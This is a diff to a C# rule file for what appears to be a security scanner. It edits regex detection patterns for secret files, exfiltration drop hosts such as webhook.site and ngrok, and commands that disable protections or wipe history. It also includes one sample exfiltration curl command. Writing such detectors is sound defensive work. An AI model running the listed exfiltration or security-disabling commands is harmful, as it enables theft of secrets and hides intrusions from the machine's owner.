@@ -5,7 +5,7 @@ internal static class BehaviorRules
 {
     private const string Secret = @"(?:\.env\b|\.ssh\b|id_rsa|\.aws\b|credentials|\bprintenv\b|\benv\b|secrets?\b|tokens?\b|passwords?\b|api[_-]?keys?|\.pem\b|wallet|keychain|cookies|/etc/passwd|shadow|history|\.kube\b|\.netrc|os\.environ\b|process\.env\b|MEMORY\.md|SOUL\.md|conversation|openclaw\.json|clawdbot\.json|auth-profiles)";
 
-    private const string Drop = @"(?:discord(?:app)?\.com/api/webhooks|hooks\.slack\.com/services|api\.telegram\.org/bot|webhook\.site|requestbin|pipedream\.net|hookbin|beeceptor|interact\.sh|oast\.\w+|burpcollaborator|canarytokens|ngrok|trycloudflare\.com|pastebin\.com/api|transfer\.sh|file\.io|0x0\.st|termbin|ix\.io|anonfiles|gofile\.io|dpaste|webhook\w*\.\w+/)";
+    private const string Drop = @"(?:discord(?:app)?\.com/api/webhooks|hooks\.slack\.com/services|api\.telegram\.org/bot|webhook\.site|requestbin|pipedream\.net|hookbin|beeceptor|interact\.sh|oast\.\w+|burpcollaborator|canarytokens|ngrok|trycloudflare\.com|pastebin\.com/api|transfer\.sh|file\.io|0x0\.st|termbin|ix\.io|anonfiles|gofile\.io|dpaste)";
 
     public static readonly ScanRule[] Rules =
     [
@@ -68,7 +68,7 @@ internal static class BehaviorRules
             "curl -d @notes https://webhook.site/0a1b", Severity.Low,
             ["webhook", "telegram.org/bot", "slack.com/services", "requestbin", "pipedream", "interact.sh", "oast.", "burpcollaborator", "ngrok", "trycloudflare", "pastebin", "transfer.sh", "file.io", "0x0.st", "termbin", "ix.io", "anonfiles", "gofile", "dpaste", "beeceptor", "hookbin"],
             [
-                new(@"(?:\bcurl\b|\bwget\b|requests\.(?:post|put)|httpx\.post|axios\.(?:post|put)|\bfetch\s*\(|urlopen|Invoke-(?:WebRequest|RestMethod)|\biwr\b|sendBeacon|\|\s*nc\b)[^\n]*" + Drop + @"[^\n]*") { Except = @"discord(?:app)?\.com/api/webhooks|hooks\.slack\.com|api\.telegram\.org|webhook\w*\.\w+/" },
+                new(@"(?:\bcurl\b|\bwget\b|requests\.(?:post|put)|httpx\.post|axios\.(?:post|put)|\bfetch\s*\(|urlopen|Invoke-(?:WebRequest|RestMethod)|\biwr\b|sendBeacon|\|\s*nc\b)[^\n]*" + Drop + @"[^\n]*") { Except = @"discord(?:app)?\.com/api/webhooks|hooks\.slack\.com|api\.telegram\.org" },
                 new(@"(?:\bcurl\b|requests\.(?:post|put)|axios\.(?:post|put)|\bfetch\s*\(|urlopen|Invoke-(?:WebRequest|RestMethod))[^\n]*(?:discord(?:app)?\.com/api/webhooks/\d|hooks\.slack\.com/services/T|api\.telegram\.org/bot\d)[^\n]*"),
                 new(@"=\s*[frb]?[""'`]https?://(?:[\w-]+\.)*(?:discord(?:app)?\.com/api/webhooks/\d\S*|api\.telegram\.org/bot\d+:\S*|webhook\.site/\S+|\S*\.oast\.\w+\S*|\S*\.interact\.sh\S*|\S*\.burpcollaborator\.net\S*|\S*\.requestbin\.\S+|\S*\.m\.pipedream\.net\S*)"),
                 new(@"\bhttps?://(?:webhook\.site/[\w-]{8,}|[\w-]+\.oast\.\w+|[\w-]+\.interact\.sh|[\w-]+\.burpcollaborator\.net|[\w-]+\.m\.pipedream\.net|[\w-]+\.requestbin\.(?:com|net))\S*"),
@@ -95,7 +95,7 @@ internal static class BehaviorRules
         Rule("security-off", Severity.High, "Switches off what protects the machine, or wipes its traces.",
             "What follows is neither stopped nor recorded.", "Leave protection on; a tool that trips it has to be signed or allowed by its user.",
             "xattr -d com.apple.quarantine ./agent", Severity.Medium,
-            ["quarantine", "spctl", "setenforce", "mppreference", "history -c", "histfile", "unset hist", "csrutil", "ufw disable", "iptables -f", "netsh", "auditctl", "/var/log", "wevtutil", "tccutil", "vssadmin", "shred", "mpcmdrun", "executionpolicy"],
+            ["quarantine", "spctl", "setenforce", "mppreference", "history -c", "_history", "histfile", "unset hist", "csrutil", "ufw disable", "iptables -f", "netsh", "auditctl", "/var/log", "wevtutil", "tccutil", "vssadmin", "shred", "mpcmdrun", "executionpolicy"],
             [
                 new(@"\bxattr\s+[^\n;|]*(?:-d\w*|-c\w*|-rd|-cr)\s[^\n;|]*|\bspctl\s+--(?:master|global)-disable|\bcsrutil\s+disable|\btccutil\s+reset\b"),
                 new(@"\bsetenforce\s+0\b|SELINUX=disabled|(?:Set|Add)-MpPreference\b[^\n]*(?:Disable|Exclusion)[^\n]*|\bufw\s+disable\b|\biptables\s+-F\b|\bnetsh\s+(?:adv)?firewall\s+[^\n]*off|\bauditctl\s+-(?:e\s*0|D)|systemctl\s+(?:stop|disable)\s+(?:--now\s+)?(?:auditd|falcon\S*|clamav\S*|apparmor|firewalld|crowdstrike\S*|osquery\S*|wazuh\S*|rsyslog)"),
